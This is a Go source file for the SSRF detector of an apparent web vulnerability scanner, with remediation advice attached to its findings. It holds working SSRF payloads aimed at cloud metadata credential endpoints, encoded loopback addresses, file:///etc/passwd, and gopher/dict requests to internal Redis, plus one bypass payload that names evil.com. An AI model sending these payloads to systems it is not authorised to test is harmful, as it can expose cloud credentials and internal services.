package modules

import (
	"context"
	"fmt"
	"strings"

	"github.com/scntm/scanner/internal/config"
	"github.com/scntm/scanner/internal/detector"
	"github.com/scntm/scanner/internal/httpclient"
	"github.com/scntm/scanner/internal/model"
)

func init() {
	detector.Register(ssrfDetector{})
}

var ssrfURLParamNames = map[string]bool{
	"url": true, "uri": true, "path": true, "src": true, "source": true,
	"dest": true, "redirect": true, "target": true, "callback": true,
	"webhook": true, "fetch": true, "proxy": true, "image": true, "avatar": true,
}

var ssrfCloudMetadataPayloads = []string{
	"http://169.254.169.254/latest/meta-data/",
	"http://metadata.google.internal/computeMetadata/v1/",
	"http://169.254.169.254/metadata/instance?api-version=2021-02-01",
	"http://169.254.169.254/metadata/v1/",
	"http://100.100.100.200/latest/meta-data/",
}

var ssrfPrivateIPPayloads = []string{
	"http://127.0.0.1/", "http://[::1]/", "http://127.1/",
	"http://0177.0.0.1/", "http://2130706433/", "http://0x7f000001/",
	"http://[::ffff:127.0.0.1]/",
}

var ssrfFilterBypassPayloads = []string{
	"http://127.0.0.1%2523@evil.com/",
	"dict://127.0.0.1:6379/",
	"file:///etc/passwd",
	"gopher://127.0.0.1:6379/_INFO",
	"http://evil@127.0.0.1/",
}

type ssrfIndicator struct {
	substring  string
	confidence model.Confidence
}

var ssrfIndicators = []ssrfIndicator{
	{"AccessKeyId", model.ConfidenceConfirmed},
	{"ami-id", model.ConfidenceConfirmed},
	{"computeMetadata", model.ConfidenceConfirmed},
	{"redis_version", model.ConfidenceConfirmed},
	{"169.254.169.254", model.ConfidenceConfirmed},
	{"root:", model.ConfidenceTentative},
}

type ssrfDetector struct{}

func (ssrfDetector) Name() string        { return "ssrf" }
func (ssrfDetector) Description() string { return "Probes URL-shaped parameters with cloud-metadata, private-IP, and filter-bypass payloads." }
func (ssrfDetector) ScanModes() []config.ScanMode { return []config.ScanMode{config.ModeFull} }
func (ssrfDetector) IsActive() bool               { return true }

func (ssrfDetector) DetectPassive(model.CrawledPage) []model.Finding { return nil }

func (d ssrfDetector) DetectActive(ctx context.Context, page model.CrawledPage, client *httpclient.Client) []model.Finding {
	var findings []model.Finding
	for _, name := range queryParamNames(page.URL) {
		if !ssrfURLParamNames[strings.ToLower(name)] {
			continue
		}
		for _, group := range [][]string{ssrfCloudMetadataPayloads, ssrfPrivateIPPayloads, ssrfFilterBypassPayloads} {
			if f := d.probeGroup(ctx, page, client, name, group); f != nil {
				findings = append(findings, *f)
				break
			}
		}
	}
	return findings
}

func (d ssrfDetector) probeGroup(ctx context.Context, page model.CrawledPage, client *httpclient.Client, name string, payloads []string) *model.Finding {
	for _, payload := range payloads {
		testURL, err := withQueryParam(page.URL, name, payload)
		if err != nil {
			continue
		}
		resp, err := client.Get(ctx, testURL)
		if err != nil {
			continue
		}
		body := string(resp.Body)
		for _, ind := range ssrfIndicators {
			if containsFold(body, ind.substring) {
				vector := "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:L/A:N"
				if ind.confidence == model.ConfidenceTentative {
					vector = "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:L/I:N/A:N"
				}
				f := detector.NewFinding(
					d.Name(), "ssrf", vector,
					"A10:2021-Server-Side Request Forgery", "CWE-918",
					page.URL, name,
					fmt.Sprintf("Parameter %q fetched %q server-side and the response contained %q.", name, payload, ind.substring),
					"Validate outbound URLs against an allowlist; block requests to link-local and loopback ranges.",
					ind.confidence,
					detector.RequestEvidence("payload_url", testURL),
					detector.ResponseEvidence("indicator", ind.substring),
				)
				return &f
			}
		}
	}
	return nil
}
